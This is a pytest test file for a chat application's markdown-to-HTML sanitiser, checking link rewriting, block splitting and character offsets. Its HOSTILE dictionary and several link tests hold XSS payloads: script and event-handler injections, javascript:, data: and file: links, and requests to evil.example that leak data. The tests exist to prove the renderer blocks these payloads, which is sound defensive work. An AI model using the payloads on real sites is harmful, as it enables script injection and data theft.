"""Markdown to safe HTML: nothing hostile survives, and it does not matter how the text came."""

import html
import re
from collections.abc import Iterable
from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat import rendering
from chat.rendering import (
    LARGEST_BLOCK,
    LEAVE,
    SCHEMES,
    TAGS,
    BlockWriter,
    blocks_of,
    render,
    with_words,
    words_html,
)
from chat.turn.events import Block, JsonValue
from chat.turn.utf16 import utf16_length

LINK = '<a href="{}" target="_blank" rel="noopener noreferrer nofollow">{}</a>'
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a block": "text\n\n<script>\nalert(1)\n</script>\n\ntext",
    "image with onerror": "<img src=x onerror=alert(1)>",
    "svg with onload": "<svg/onload=alert(1)>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "mathml mutation": "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "details": "<details open ontoggle=alert(1)>",
    "style": "<style>*{background:url(//evil.example/?x)}</style>",
    "base": "<base href=//evil.example/>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "form": "<form action=//evil.example><input name=password>",
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "unclosed tag": "<img src=x onerror=alert(1)",
    "NUL in a tag": "<scr\x00ipt>alert(1)</script>",
    "javascript link": "[x](javascript:alert(1))",
    "capital letters": "[x](JaVaScRiPt:alert(1))",
    "entities in a scheme": "[x](&#106;avascript&colon;alert(1))",
    "tab in a scheme": "[x](java\tscript:alert(1))",
    "percent in a scheme": "[x](javascript%3Aalert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image link": "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "file link": "[x](file:///etc/passwd)",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript definition": "[x]\n\n[x]: javascript:alert(1)",
    "title that breaks out": "[x](https://a.example '\" onmouseover=\"alert(1)')",
    "address that breaks out": '[x](https://a.example/"onmouseover="alert(1))',
    "language that breaks out": '```"><script>alert(1)</script>\nx\n```',
    "table cell": "| <img src=x onerror=alert(1)> |\n|-|\n| <svg onload=alert(1)> |",
    "code": "`<script>alert(1)</script>`",
    "nested image": "[![x](javascript:alert(1))](javascript:alert(2))",
}


class Elements(HTMLParser):
    """The elements that a browser would make, with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(markup)
    parser.close()
    return parser.found


def written(pieces: Iterable[str]) -> list[Block]:
    writer = BlockWriter()
    finished = [block for piece in pieces for block in writer.add(piece)]
    return [*finished, *writer.close()]


def cut(text: str, cuts: Iterable[int]) -> list[str]:
    edges = [0, *sorted(cut for cut in cuts if cut < len(text)), len(text)]
    return [text[start:end] for start, end in pairwise(edges)]


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_makes_only_allowed_elements(payload: str) -> None:
    for tag, attributes in elements(render(payload)):
        assert tag in TAGS
        assert set(attributes) <= {"href", "target", "rel", "start"}
        leads_to = unquote((attributes.get("href") or "https:").removeprefix(LEAVE))
        assert leads_to.split(":")[0] in SCHEMES


@given(st.text(st.sampled_from("<>\"'&/=!-: \n\t`[]()*_|#\\ajscriptonevl;%\x00")))
def test_any_markup_makes_only_allowed_elements(text: str) -> None:
    assert {tag for tag, _ in elements(render(text))} <= TAGS


@pytest.mark.parametrize(
    ("text", "link"),
    [
        (
            "[x](https://a.example/?b=1&c=2)",
            LINK.format("/leave?to=https%3A%2F%2Fa.example%2F%3Fb%3D1%26c%3D2", "x"),
        ),
        ("[x](mailto:li@a.example)", LINK.format("mailto:li@a.example", "x")),
        ("[call](tel:120)", LINK.format("tel:120", "call")),
        (
            "<https://a.example>",
            LINK.format("/leave?to=https%3A%2F%2Fa.example", "https://a.example"),
        ),
        (
            "https://a.example/b",
            LINK.format("/leave?to=https%3A%2F%2Fa.example%2Fb", "https://a.example/b"),
        ),
        (
            "[x](https://例子.com/)",
            LINK.format("/leave?to=https%3A%2F%2Fxn--fsqu00a.com%2F", "x"),
        ),
        ("li@a.com", LINK.format("mailto:li@a.com", "li@a.com")),
    ],
    ids=["https", "mail", "telephone", "autolink", "bare address", "Chinese name", "bare mail"],
)
def test_link_opens_elsewhere_and_is_not_followed(text: str, link: str) -> None:
    assert render(text) == f"<p>{link}</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        *("[x](//evil.example)", "//evil.com", "[x](/admin/)", "[x](admin)", "[x](#end)"),
        *("[x](\\evil)", "[x](/leave?to=x)"),
    ],
    ids=["other host", "bare other host", "path", "name", "fragment", "backslash", "our own page"],
)
def test_link_without_a_scheme_is_none(text: str) -> None:
    assert elements(render(text)) == [("p", {})]


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        pytest.param(
            "![x](https://a.com/)",
            "<p>!" + LINK.format("/leave?to=https%3A%2F%2Fa.com%2F", "x"),
            id="image",
        ),
        pytest.param("**a** _b_ ~~c~~", "<p><strong>a</strong> <em>b</em> <s>c</s>", id="emphasis"),
        pytest.param("# a", "<h1>a</h1>", id="heading"),
        pytest.param("> a", "<blockquote>\n<p>a</p>\n</blockquote>", id="quote"),
        pytest.param("a  \nb", "<p>a<br>\nb</p>", id="line break"),
        pytest.param("```py\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>", id="code block"),
        pytest.param("`<b>`", "<p><code>&lt;b&gt;</code></p>", id="code"),
        pytest.param("3. a", '<ol start="3">\n<li>a</li>\n</ol>', id="numbered list"),
        pytest.param(
            "- a\n  - b",
            "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>",
            id="nested list",
        ),
        pytest.param(
            "|a|b|\n|-|:-:|\n|c|d|",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n"
            "<tbody>\n<tr>\n<td>c</td>\n<td>d</td>\n</tr>\n</tbody>\n</table>",
            id="table",
        ),
        pytest.param(
            "[x]: https://a.com\n",
            "<p>[x]: " + LINK.format("/leave?to=https%3A%2F%2Fa.com", "https://a.com"),
            id="definition",
        ),
    ],
)
def test_markdown_is_rendered(text: str, markup: str) -> None:
    assert render(text).startswith(markup)


def test_link_to_another_host_than_the_sources_lead_to_is_none() -> None:
    text = "[a](https://www.nice.org.uk/a) [b](https://evil.example/) [c](tel:120)"

    links = [attributes for tag, attributes in elements(render(text, frozenset({"nice.org.uk"})))]

    assert [link.get("href") for link in links] == [
        None,
        "/leave?to=https%3A%2F%2Fwww.nice.org.uk%2Fa",
        None,
        "tel:120",
    ]


def test_words_of_a_source_stand_beside_it_as_html() -> None:
    source: JsonValue = {"title": "Why?", "text": "**So** <b>\n\n- [x](https://a.example/)"}

    assert with_words(source) == {
        "title": "Why?",
        "text": "**So** <b>\n\n- [x](https://a.example/)",
        "html": "<p><strong>So</strong> &lt;b&gt;</p>\n<ul>\n<li>"
        + LINK.format("/leave?to=https%3A%2F%2Fa.example%2F", "x")
        + "</li>\n</ul>\n",
    }


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_hostile_words_of_an_expert_make_only_allowed_elements(payload: str) -> None:
    assert {tag for tag, _ in elements(words_html(payload))} <= TAGS


def test_image_is_never_loaded() -> None:
    assert "<img" not in render("![a](https://evil.example/?q=SECRET)")


@pytest.mark.parametrize(
    "control", "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", ids=ascii
)
def test_bidi_control_is_removed_and_counted(control: str) -> None:
    [block] = blocks_of(f"a{control}b")

    assert block == Block(start=0, end=3, html="<p>ab</p>\n")


def test_bidi_controls_in_a_large_block_are_removed() -> None:
    assert "\u202e" not in render("a\u202e" * LARGEST_BLOCK)


def test_each_paragraph_is_a_block() -> None:
    assert blocks_of("一\n\n二\n\n- 三\n- 四\n") == (
        Block(start=0, end=3, html="<p>一</p>\n"),
        Block(start=3, end=6, html="<p>二</p>\n"),
        Block(start=6, end=14, html="<ul>\n<li>三</li>\n<li>四</li>\n</ul>\n"),
    )


def test_block_is_finished_when_the_next_has_begun() -> None:
    writer = BlockWriter()

    assert writer.add("一\n") == []
    assert writer.add("\n") == []
    assert writer.add("二") == [Block(start=0, end=3, html="<p>一</p>\n")]
    assert writer.add("三") == []
    assert writer.close() == [Block(start=3, end=5, html="<p>二三</p>\n")]


def test_list_goes_on_until_it_is_clear_what_follows() -> None:
    writer = BlockWriter()

    assert writer.add("1. 一\n\n2") == []
    assert writer.add("0 岁") == []
    assert writer.add("以后。\n") == [
        Block(start=0, end=6, html="<ol>\n<li>一</li>\n</ol>\n"),
    ]


def test_nothing_makes_no_block() -> None:
    assert written([]) == []
    assert written([""]) == []


def test_emoji_count_twice_as_in_javascript() -> None:
    first, second = blocks_of("😀😀\n\n好")

    assert (first.start, first.end) == (0, 6)
    assert (second.start, second.end) == (6, 7)


@pytest.mark.parametrize("line_end", ["\u2028", "\x0b", "\x0c", "\x1c", "\x85"], ids=ascii)
def test_odd_line_end_does_not_shift_the_blocks(line_end: str) -> None:
    ends = [block.end for block in blocks_of(f"a{line_end}b\n\nc\n\nd")]

    assert ends == [5, 8, 9]


@pytest.mark.parametrize("line_end", ["\n", "\r\n"], ids=ascii)
def test_line_may_be_taken_back_by_its_rest(line_end: str) -> None:
    text = f"- a{line_end}--- b"

    assert written([text[:-2], text[-2:]]) == written([text])


MARKS = [
    *("- ", "1. ", "2", "> ", "# ", "```", "~~~", "|", "-|-", "a|b", "---", "===", "*", "`"),
    *("    ", "  ", " ", "\t", "\n", "\n\n", "\r\n", "\r"),
    *("a", "[a]:", "[a]", " /x", "<div>", "😀"),
]
markdown = st.lists(st.sampled_from(MARKS), max_size=40).map("".join)
cuts = st.sets(st.integers(1, 90))


@given(st.text() | markdown, cuts)
def test_blocks_tile_the_text_exactly(text: str, cuts: set[int]) -> None:
    blocks = written(cut(text, cuts))

    edges = [0, *(block.end for block in blocks)]
    assert [block.start for block in blocks] == edges[:-1]
    assert edges[-1] == utf16_length(text)
    assert all(block.start < block.end for block in blocks)


@given(st.text() | markdown, cuts)
def test_blocks_do_not_depend_on_how_the_text_came(text: str, cuts: set[int]) -> None:
    assert written(cut(text, cuts)) == written([text]) == written(text)


@pytest.mark.parametrize(
    "repeated", ["a", "一\n\n", "- a\n", "😀 ", "| a |\n", "`", "word\n", "\n"]
)
def test_long_text_does_not_depend_on_how_it_came(repeated: str) -> None:
    text = repeated * ((LARGEST_BLOCK + 500) // len(repeated)) + "\n\nend"

    in_pieces = written(cut(text, range(7, len(text), 7)))

    assert in_pieces == written([text])
    assert in_pieces[-1].end == utf16_length(text)


def test_long_reply_of_many_blocks_is_rendered_block_by_block() -> None:
    text = "**一**\n\n" * 1_000

    assert len(text) > LARGEST_BLOCK
    assert render(text) == "<p><strong>一</strong></p>\n" * 1_000


def test_block_of_4001_characters_is_shown_as_it_is_written() -> None:
    text = "**<b>**" + "x" * 3_994

    first, rest = blocks_of(text)

    assert first.html == f"<p>{html.escape(text[:LARGEST_BLOCK])}</p>"
    assert rest == Block(start=LARGEST_BLOCK, end=4_001, html="<p>x</p>\n")


def test_block_after_a_large_one_is_rendered_again() -> None:
    blocks = blocks_of("x" * LARGEST_BLOCK + "\n\n**一**")

    assert [block.html for block in blocks][1:] == ["<p><strong>一</strong></p>\n"]


@pytest.mark.parametrize(
    "bomb",
    ["[", "![[]()", "[\n", "*a", "a@b.co ", "http://a.b/", "<", "&#x", "`", "> ", "- ", "\\", "|-"],
)
def test_t42_bomb_at_the_cap_loses_no_character(bomb: str) -> None:
    text = (bomb * LARGEST_BLOCK)[: LARGEST_BLOCK - 1]

    blocks = blocks_of(text)

    assert (blocks[0].start, blocks[-1].end) == (0, len(text))


def test_text_reads_the_same_in_the_html() -> None:
    text = "孩子 5 < 6 岁 & “好”。"

    assert html.unescape(re.sub("<[^>]+>", "", render(text))).strip() == text


POISON = "Do **not**\n\n<drink> the *poison*.\n\nRather *this*.\n"


def failing(*_: object) -> str:
    raise IndexError("poison")


def test_words_that_the_parser_fails_at_are_shown_as_they_are_written(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(rendering._markdown, "render", failing)

    shown = rendered(POISON)

    assert shown == [
        "<p>Do **not**\n\n</p>",
        "<p>&lt;drink&gt; the *poison*.\n\n</p>",
        "<p>Rather *this*.\n</p>",
    ]
    assert "IndexError" in caplog.text
    assert "poison" not in caplog.text


def test_text_whose_blocks_the_parser_cannot_tell_apart_is_one_block(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(rendering._outline, "parse", failing)

    [shown] = rendered(POISON)

    assert "Rather <em>this</em>." in shown


def test_long_text_whose_blocks_the_parser_cannot_tell_apart_is_shown_in_full(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(rendering._outline, "parse", failing)
    long = "word " * LARGEST_BLOCK

    assert sum(block.end - block.start for block in whole(long)) == len(long)


def whole(text: str) -> list[Block]:
    writer = BlockWriter()
    return [*writer.add(text), *writer.close()]


def rendered(text: str) -> list[str]:
    return [block.html for block in whole(text)]
